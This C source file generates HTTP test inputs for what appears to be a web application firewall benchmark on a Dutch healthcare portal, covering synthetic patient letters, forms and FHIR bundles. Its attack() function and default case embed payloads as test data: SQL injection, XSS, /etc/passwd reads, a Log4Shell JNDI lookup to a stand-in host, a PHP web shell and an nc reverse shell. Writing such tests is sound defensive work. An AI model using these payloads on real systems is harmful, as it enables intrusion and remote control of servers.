#include "waf_inputs.h"

#include "base/buf.h"
#include "base/must.h"

static struct str base_fields(struct arena *arena, struct waf_field *fields, size_t *ret_count,
                              const char *type, size_t body_bytes)
{
    size_t n = 0;
    fields[n++] = (struct waf_field){STR("Host"), STR("zorg.example.nl")};
    fields[n++] = (struct waf_field){
        STR("User-Agent"), STR("Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0")};
    fields[n++] = (struct waf_field){STR("Accept"),
                                     STR("text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8")};
    fields[n++] = (struct waf_field){STR("Accept-Language"), STR("nl,en-US;q=0.7,en;q=0.3")};
    fields[n++] = (struct waf_field){STR("Accept-Encoding"), STR("gzip, deflate, br")};
    fields[n++] = (struct waf_field){STR("Cookie"), STR("sessie=9f2c7a51d0e84b6f; taal=nl")};
    if (type) {
        fields[n++] = (struct waf_field){STR("Content-Type"), str_of(type)};
        fields[n++] = (struct waf_field){STR("Content-Length"), arena_printf(arena, "%zu", body_bytes)};
    }
    *ret_count = n;
    return STR_NONE;
}

static struct waf_input request(struct arena *arena, const char *name, const char *method, const char *target,
                                const char *type, struct str body)
{
    struct waf_input input = {.name = name, .body = body};
    struct waf_field *fields = arena_alloc(arena, 8 * sizeof *fields);
    must(fields);
    (void)base_fields(arena, fields, &input.request.field_count, type, body.n);
    input.request.fields = fields;
    input.request.method = str_of(method);
    input.request.target = str_of(target);
    input.request.protocol = STR("HTTP/1.1");
    input.request.line = arena_printf(arena, "%s %s HTTP/1.1", method, target);
    input.request.client_ip = STR("192.0.2.7");
    input.request.server_ip = STR("192.0.2.1");
    input.request.server_name = STR("zorg.example.nl");
    input.request.unique_id = STR("3b1f0c5e9a7d4e21");
    input.request.now_s = 1'700'000'000;
    return input;
}

static const char *const sentences[] = {
    "Patient komt met sinds drie dagen bestaande hoest, geen koorts, wat kortademig bij inspanning. ",
    "Bij lichamelijk onderzoek: pulmones vesiculair ademgeruis, cor regulair, RR 135/85, pols 78. ",
    "Beleid: afwachten, zo nodig paracetamol 500 mg 4x daags; controle over een week bij geen verbetering. ",
    "Voorgeschiedenis: diabetes mellitus type 2 (2009), hypertensie, staat geregistreerd in de keten. ",
    "Lab: HbA1c 58 mmol/mol, kreatinine 84 umol/l, eGFR > 60, kalium 4.2; lipiden volgen nog. ",
    "Met vriendelijke groet, namens de maatschap, dr. A. de Vries (huisarts), tel. 010-5550123. ",
};

static void add_letter(struct buf *out, size_t bytes)
{
    for (unsigned i = 0; out->n < bytes; i++)
        buf_str(out, str_of(sentences[i % (sizeof sentences / sizeof *sentences)]));
}

static struct buf room(struct arena *arena, size_t n)
{
    char *memory = arena_bytes(arena, n);
    must(memory);
    return buf_over(memory, n);
}

static struct str letter(struct arena *arena, size_t bytes)
{
    struct buf out = room(arena, bytes + 1024);
    BUF_LIT(&out, "{\"onderwerp\":\"Verwijzing longarts\",\"status\":\"final\",\"tekst\":\"");
    add_letter(&out, bytes - 8);
    BUF_LIT(&out, "\"}");
    return buf_text(&out);
}

static struct str form(struct arena *arena)
{
    struct buf out = room(arena, 2048);
    BUF_LIT(&out, "bsn=123456782&naam=J.+de+Vries&geboortedatum=1961-04-02&postcode=3011+AB&plaats=Rotterdam"
                  "&email=j.devries%40voorbeeld.nl&telefoon=010-5550123&opmerking=");
    for (unsigned i = 0; out.n < 1000; i++) {
        struct str s = str_of(sentences[i % 3]);
        for (size_t k = 0; k < s.n && out.n < 1000; k++)
            buf_char(&out, s.p[k] == ' ' ? '+' : s.p[k]);
    }
    BUF_LIT(&out, "&verzend=Opslaan");
    return buf_text(&out);
}

/* A letter as a browser sends it from a text area: lines, letters with accents, everything else encoded. */
static struct str form_letter(struct arena *arena, size_t bytes)
{
    struct buf text = room(arena, bytes + 1024), out = room(arena, 3 * bytes + 4096);
    add_letter(&text, bytes);
    BUF_LIT(&out, "onderwerp=Verwijzing&tekst=Geachte+collega%2C%0D%0A%0D%0A");
    for (size_t i = 0; i < text.n && out.n < bytes; i++) {
        char c = text.p[i];
        bool is_plain = (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || (c >= '0' && c <= '9');
        if (is_plain)
            buf_char(&out, c);
        else if (c == ' ')
            buf_char(&out, '+');
        else
            buf_printf(&out, "%%%02X", (unsigned)(unsigned char)c);
        if (c == '.')
            BUF_LIT(&out, i % 7 ? "%0A" : "+Pati%C3%ABnt%E2%80%99s");
    }
    return buf_text(&out);
}

/* One measured value with all that surrounds it, about 900 bytes and 22 leaves. */
static void add_observation(struct arena *arena, struct buf *out, unsigned i)
{
    static const struct {
        const char *code, *display, *unit;
    } kinds[] = {{"8480-6", "Systolic blood pressure", "mm[Hg]"},
                 {"4548-4", "Hemoglobin A1c/Hemoglobin.total in Blood", "%"},
                 {"2160-0", "Creatinine [Mass/volume] in Serum or Plasma", "mg/dL"},
                 {"29463-7", "Body weight", "kg"}};
    unsigned k = i % 4;
    buf_str(
        out,
        arena_printf(
            arena,
            "{\"fullUrl\":\"urn:uuid:6f1c%04x-2b7a-4c1d-9e35-%012x\",\"resource\":{\"resourceType\":"
            "\"Observation\",\"id\":\"obs-%u\",\"meta\":{\"versionId\":\"1\",\"lastUpdated\":"
            "\"2024-03-%02uT09:%02u:%02u+01:00\"},\"status\":\"final\",\"category\":[{\"coding\":[{"
            "\"system\":"
            "\"http://terminology.hl7.org/CodeSystem/observation-category\",\"code\":\"vital-signs\","
            "\"display\":\"Vital Signs\"}]}],\"code\":{\"coding\":[{\"system\":\"http://loinc.org\",\"code\":"
            "\"%s\",\"display\":\"%s\"}],\"text\":\"%s\"},",
            i & 0xffff, i * 7919, i, i % 28 + 1, i % 60, i * 7 % 60, kinds[k].code, kinds[k].display,
            kinds[k].display));
    buf_str(
        out,
        arena_printf(
            arena,
            "\"subject\":{\"reference\":\"Patient/p%u\",\"display\":\"J. de Vries\"},\"effectiveDateTime\":"
            "\"2024-03-%02uT09:%02u:00+01:00\",\"performer\":[{\"reference\":\"Practitioner/arts-%u\"}],"
            "\"valueQuantity\":{\"value\":%u.%u,\"unit\":\"%s\",\"system\":\"http://"
            "unitsofmeasure.org\",\"code\":"
            "\"%s\"},\"note\":[{\"text\":\"Gemeten door de assistente; patient zat vijf minuten, arm "
            "rechts.\"}]},"
            "\"request\":{\"method\":\"POST\",\"url\":\"Observation\"}}",
            i % 40, i % 28 + 1, i % 60, i % 7, 60 + i % 90, i % 10, kinds[k].unit, kinds[k].unit));
}

static struct str bundle(struct arena *arena, size_t bytes)
{
    struct buf out = room(arena, bytes + 4096);
    BUF_LIT(&out, "{\"resourceType\":\"Bundle\",\"type\":\"transaction\",\"entry\":[");
    for (unsigned i = 0; out.n < bytes; i++) {
        if (i)
            buf_char(&out, ',');
        add_observation(arena, &out, i);
    }
    BUF_LIT(&out, "]}");
    return buf_text(&out);
}

/* Many leaves, of which every third tries something else. */
static struct str attack(struct arena *arena, size_t bytes)
{
    static const char *const tries[] = {"1' or '1'='1' -- ",
                                        "<script>alert(document.cookie)</script>",
                                        "../../../../etc/passwd",
                                        "; cat /etc/passwd",
                                        "1 union all select null,table_name from information_schema.tables",
                                        "<img src=x onerror=alert(1)>",
                                        "${jndi:ldap://kwaad.example/a}",
                                        "<?php system($_GET['c']); ?>",
                                        "| nc -e /bin/sh 10.0.0.1 4444",
                                        "php://filter/convert.base64-encode/resource=index.php",
                                        "javascript:alert(1)",
                                        "waitfor delay '0:0:5'--"};
    struct buf out = room(arena, bytes + 4096);
    BUF_LIT(&out, "{\"resourceType\":\"Bundle\",\"entry\":[");
    for (unsigned i = 0; out.n < bytes; i++) {
        if (i)
            buf_char(&out, ',');
        buf_str(&out, arena_printf(arena,
                                   "{\"resource\":{\"resourceType\":\"Observation\",\"id\":\"o%u\",\"note\":"
                                   "\"%s\",\"text\":\"%s\","
                                   "\"effectiveDateTime\":\"2024-03-01T09:00:00+01:00\",\"code\":\"%u-%u\","
                                   "\"display\":\"Gemeten "
                                   "door de "
                                   "assistente, arm rechts, waarde %u\"}}",
                                   i, tries[i % 12], i % 3 ? "rustig" : tries[(i / 3) % 12], i * 31 % 9000,
                                   i % 10, i));
    }
    BUF_LIT(&out, "]}");
    return buf_text(&out);
}

struct waf_input waf_input_make(unsigned which, struct arena *arena)
{
    static const char fhir[] = "application/fhir+json", json[] = "application/json";
    switch (which) {
    case 0:
        return request(arena, "GET", "GET", "/portaal/overzicht.html", NULL, STR(""));
    case 1:
        return request(arena, "GET 10 args", "GET",
                       "/portaal/zoek?naam=de+Vries&plaats=Rotterdam&vanaf=2024-01-01&tot=2024-12-31&pagina=2"
                       "&aantal=25&sorteer=datum&richting=af&status=actief&q=bloeddruk+hoog",
                       NULL, STR(""));
    case 2:
        return request(arena, "form 1 KiB", "POST", "/portaal/inschrijven",
                       "application/x-www-form-urlencoded", form(arena));
    case 3:
        return request(arena, "FHIR 10 KiB", "POST", "/fhir", fhir, bundle(arena, 10 << 10));
    case 4:
        return request(arena, "FHIR 100 KiB", "POST", "/fhir", fhir, bundle(arena, 100 << 10));
    case 5:
        return request(arena, "letter 10 KiB", "POST", "/brieven", json, letter(arena, 10 << 10));
    case 6:
        return request(arena, "letter 100 KiB", "POST", "/brieven", json, letter(arena, 100 << 10));
    case 7:
        return request(arena, "attack 100 KiB", "POST", "/fhir", fhir, attack(arena, 100 << 10));
    case 8:
        return request(arena, "form letter", "POST", "/brieven", "application/x-www-form-urlencoded",
                       form_letter(arena, 100 << 10));
    default:
        return request(arena, "attack GET", "GET", "/?id=1'+or+'1'='1'+--+&x=<script>alert(1)</script>", NULL,
                       STR(""));
    }
}
